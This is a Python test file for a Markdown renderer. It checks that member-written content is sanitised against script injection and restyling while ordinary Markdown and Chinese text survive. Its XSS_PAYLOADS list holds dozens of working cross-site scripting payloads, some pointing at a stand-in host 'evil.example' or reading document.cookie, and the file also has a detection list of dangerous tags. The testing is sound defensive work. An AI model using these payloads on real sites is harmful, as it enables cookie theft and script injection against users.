"""cocreate.core.markdown.render: nothing a member writes can run script or
restyle the page, while ordinary Markdown and Chinese text come through intact."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from cocreate.core.markdown import render

# What the rendered HTML may contain, written out here on purpose (not imported
# from the module under test), so loosening the module's allowlist fails a test.
SAFE_TAGS = {
    "p",
    "br",
    "hr",
    "strong",
    "em",
    "code",
    "pre",
    "blockquote",
    "ul",
    "ol",
    "li",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "a",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "del",
    "s",
}
SAFE_ATTRIBUTES = {"a": {"href", "title", "rel"}, "th": {"align"}, "td": {"align"}}
SAFE_SCHEMES = {"http", "https", "mailto"}


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def parse(html: str) -> _Collector:
    collector = _Collector()
    collector.feed(html)
    collector.close()
    return collector


def url_scheme(url: str) -> str | None:
    # Browsers ignore ASCII whitespace and control characters inside a scheme.
    squeezed = re.sub(r"[\x00-\x20\x7f]", "", url).lower()
    match = re.match(r"^([a-z][a-z0-9+.\-]*):", squeezed)
    return match.group(1) if match else None


def assert_harmless(html: str) -> None:
    for tag, attrs in parse(html).elements:
        assert tag in SAFE_TAGS, f"<{tag}> survived in {html!r}"
        for name, value in attrs.items():
            assert name in SAFE_ATTRIBUTES.get(tag, set()), f"{tag}[{name}] in {html!r}"
            assert not name.startswith("on"), html
            if name == "href":
                scheme = url_scheme(value or "")
                assert scheme is None or scheme in SAFE_SCHEMES, f"href scheme {scheme!r}"
    lowered = html.lower()
    # No live markup at all: any such text left must be escaped (&lt;...), not a tag.
    for needle in ("<script", "<iframe", "<img", "<svg", "<style", "<object", "<embed", "<form"):
        assert needle not in lowered, html


XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '"><script>alert(document.cookie)</script>',
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    '<img src="x" onerror="&#97;lert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="&#106;avascript:alert(1)">click</a>',
    '<a href="data:text/html,<script>alert(1)</script>">click</a>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%">cover</p>',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<form action="javascript:alert(1)"><input type="submit"></form>',
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "<table><tr><td onclick=alert(1)>x</td></tr></table>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click](&#106;avascript:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click](java&#x09;script:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "[click](file:///etc/passwd)",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/track.png)",
    "<javascript:alert(1)>",
    "[x][1]\n\n[1]: javascript:alert(1)",
    '[x](https://example.org "t\\" onmouseover=\\"alert(1)")',
    "**bold <img src=x onerror=alert(1)>**",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "> <iframe src=https://evil.example></iframe>",
]


def test_there_are_at_least_thirty_classic_payloads():
    assert len(XSS_PAYLOADS) >= 30


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_xss_payload_is_neutralised(payload: str):
    html = render(payload)
    assert hasattr(html, "__html__")  # a safe-HTML string templates will not escape again
    assert_harmless(str(html))


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_xss_payload_inside_a_list_item_and_a_quote_is_neutralised(payload: str):
    assert_harmless(str(render(f"- {payload}\n\n> {payload}\n")))


def test_raw_html_is_shown_as_text_not_markup():
    html = str(render("<b>bold</b> and <i>italic</i>"))
    assert [tag for tag, _attrs in parse(html).elements] == ["p"]
    assert "&lt;b&gt;bold&lt;/b&gt;" in html


def test_script_text_is_escaped_and_never_executable():
    html = str(render("<script>alert(1)</script>"))
    assert "<script" not in html.lower()
    assert "&lt;script&gt;" in html


def test_emphasis_strong_strikethrough_and_headings_survive():
    html = str(render("# Title\n\n*soft* **loud** ~~gone~~"))
    tags = [tag for tag, _attrs in parse(html).elements]
    assert tags[0] == "h1"
    assert "<em>soft</em>" in html
    assert "<strong>loud</strong>" in html
    assert "<s>gone</s>" in html or "<del>gone</del>" in html


def test_lists_and_blockquotes_survive():
    html = str(render("1. one\n2. two\n\n- apple\n- pear\n\n> quoted"))
    tags = [tag for tag, _attrs in parse(html).elements]
    assert tags.count("li") == 4
    assert "ol" in tags and "ul" in tags and "blockquote" in tags


def test_links_survive_with_nofollow_ugc():
    html = str(render('[our site](https://example.org/a?b=1 "Title") and <mailto:hi@example.org>'))
    links = [attrs for tag, attrs in parse(html).elements if tag == "a"]
    assert [a["href"] for a in links] == ["https://example.org/a?b=1", "mailto:hi@example.org"]
    assert links[0]["title"] == "Title"
    for link in links:
        rel = set((link.get("rel") or "").split())
        assert {"nofollow", "ugc"} <= rel


def test_inline_code_and_code_blocks_survive_escaped():
    html = str(render("Use `<div>` here.\n\n```python\nif a < b:\n    print('<ok>')\n```"))
    assert "<code>&lt;div&gt;</code>" in html
    assert "<pre><code" in html
    assert "if a &lt; b:" in html
    assert_harmless(html)


def test_tables_survive():
    html = str(render("| name | votes |\n|------|-------|\n| 灯 | 12 |\n| lock | 7 |"))
    tags = [tag for tag, _attrs in parse(html).elements]
    assert tags.count("table") == 1
    assert tags.count("th") == 2
    assert tags.count("td") == 4
    assert "<td>灯</td>" in html


def test_table_column_alignment_survives_without_style_attributes():
    # The allowlist keeps `align` on th/td for exactly this; markdown-it writes the
    # alignment as a style attribute, which the sanitiser must not let through.
    html = str(render("| left | right |\n|:-----|------:|\n| a | 1 |"))
    cells = [attrs for tag, attrs in parse(html).elements if tag in {"th", "td"}]
    assert all("style" not in c for c in cells)
    assert [c.get("align") for c in cells] == ["left", "right", "left", "right"]


def test_chinese_text_is_intact():
    text = "不是“我”创造，而是“我们”一起创造。**公开透明**，规则开放。"
    html = str(render(text))
    assert "不是“我”创造，而是“我们”一起创造。" in html
    assert "<strong>公开透明</strong>" in html
    assert "规则开放。" in html


def test_empty_and_none_render_to_empty_markup():
    assert str(render("")) == ""
    assert str(render(None)) == ""  # type: ignore[arg-type]
